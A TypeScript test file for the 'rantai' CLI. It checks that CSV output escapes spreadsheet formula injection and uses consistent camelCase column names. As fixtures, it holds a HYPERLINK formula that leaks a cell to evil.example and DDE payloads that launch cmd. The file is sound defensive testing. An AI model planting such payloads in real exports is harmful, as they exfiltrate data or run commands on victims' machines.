// `rantai analyse --format csv` writes tables a spreadsheet opens safely (issue 18, item 9): it
// wrote `=HYPERLINK(…)` cells raw, which Excel and LibreOffice turn into live formulas. A copy of
// the seed with hostile firm and component names goes through the real CLI; every text cell that
// starts like a formula (=, +, -, @, tab, CR; OWASP "CSV Injection") must come out with a leading
// single quote, numbers (negative ones included) must stay numbers, and the table must be the one
// the formula-safe writer of the web and API produces (server/export/csv-table.ts).
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_DATASET } from '../../server/config.ts';
import { datasetToCsvTexts, readDataset } from '../../server/model/index.ts';
import { tempDir } from '../helpers/datasets.ts';
import { rantai } from '../helpers/cli.ts';
import { rankingColumns } from '../../web/src/views/opportunities/ranking.ts';

const HOSTILE_FIRM = '=HYPERLINK("http://evil.example/?leak="&A1,"klik")';
const HOSTILE_COMPONENT = '+cmd|\' /C calc\'!A0';
const HOSTILE_SUPPLIER = '@SUM(1+1)*cmd|\' /C calc\'!A0';

let tmp: { dir: string; cleanup: () => Promise<void> };

beforeAll(async () => {
  tmp = await tempDir('rantai-csv-injection-');
  // A buyer and a supplier of a missing link, and its component: names the tables print.
  const links = JSON.parse(rantai(['analyse', 'missing-links']).stdout) as { recommendations: Array<{ buyer: { id: string }; supplier: { id: string }; component: { id: string } }> };
  const first = links.recommendations[0]!;
  const dataset = await readDataset(DEFAULT_DATASET);
  const rename = <T extends { id: string; name: string }>(rows: T[], id: string, name: string) => {
    const row = rows.find((r) => r.id === id);
    expect(row).toBeDefined();
    row!.name = name;
  };
  rename(dataset.firms, first.buyer.id, HOSTILE_FIRM);
  rename(dataset.firms, first.supplier.id, HOSTILE_SUPPLIER);
  rename(dataset.components, first.component.id, HOSTILE_COMPONENT);
  for (const [file, text] of datasetToCsvTexts(dataset)) await writeFile(path.join(tmp.dir, file), text);
}, 120_000);
afterAll(async () => tmp.cleanup());

const FORMULA_START = /^[=+\-@\t\r]/;
const NUMERIC = /^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/;

describe('rantai analyse --format csv', () => {
  it.each(['missing-links', 'risk', 'substitution', 'imports', 'metrics'])('%s: no cell starts like a formula unless it is a number', (name) => {
    const r = rantai(['analyse', name, '--dataset', tmp.dir, '--format', 'csv']);
    expect(r.code).toBe(0);
    const rows = parse(r.stdout, { columns: false, relax_column_count: false }) as string[][];
    expect(rows.length).toBeGreaterThan(1);
    const risky = rows.flat().filter((cell) => FORMULA_START.test(cell) && !NUMERIC.test(cell));
    expect(risky).toEqual([]);
  });

  it('the hostile names come out quoted with a leading apostrophe, not as formulas', () => {
    const r = rantai(['analyse', 'missing-links', '--dataset', tmp.dir, '--format', 'csv']);
    const rows = parse(r.stdout, { columns: true }) as Array<Record<string, string>>;
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells).toContain(`'${HOSTILE_FIRM}`);
    expect(cells).toContain(`'${HOSTILE_SUPPLIER}`);
    expect(cells).toContain(`'${HOSTILE_COMPONENT}`);
    expect(cells).not.toContain(HOSTILE_FIRM);
    // Numbers are untouched: scores and shares parse back as numbers.
    expect(rows.every((row) => NUMERIC.test(row.score!))).toBe(true);
  });

  it('the JSON output keeps the names exactly as the dataset gives them', () => {
    const r = rantai(['analyse', 'missing-links', '--dataset', tmp.dir]);
    expect(r.stdout).toContain(JSON.stringify(HOSTILE_FIRM));
  });
});

// One column naming convention across the CLI's CSV, the web views' CSV and the API's JSON (README,
// "Column names"): camelCase names of the JSON fields; the CLI's substitution table and the web
// view's ranking download name the same data alike.
describe('rantai analyse --format csv column names', () => {
  const header = (name: string): string[] => {
    const r = rantai(['analyse', name, '--format', 'csv']);
    expect(r.code).toBe(0);
    return (parse(r.stdout, { to_line: 1 }) as string[][])[0]!;
  };

  it.each(['missing-links', 'risk', 'substitution', 'imports', 'metrics'])('%s: every column is a camelCase field name', (name) => {
    const columns = header(name);
    expect(columns.length).toBeGreaterThan(3);
    expect(columns.filter((c) => !/^[a-z][a-zA-Z0-9]*$/.test(c))).toEqual([]);
  });

  it("substitution: the columns of the web ranking's CSV download appear under the same names", () => {
    const columns = header('substitution');
    expect(rankingColumns().map((c) => c.key).filter((key) => !columns.includes(key))).toEqual([]);
  });
});
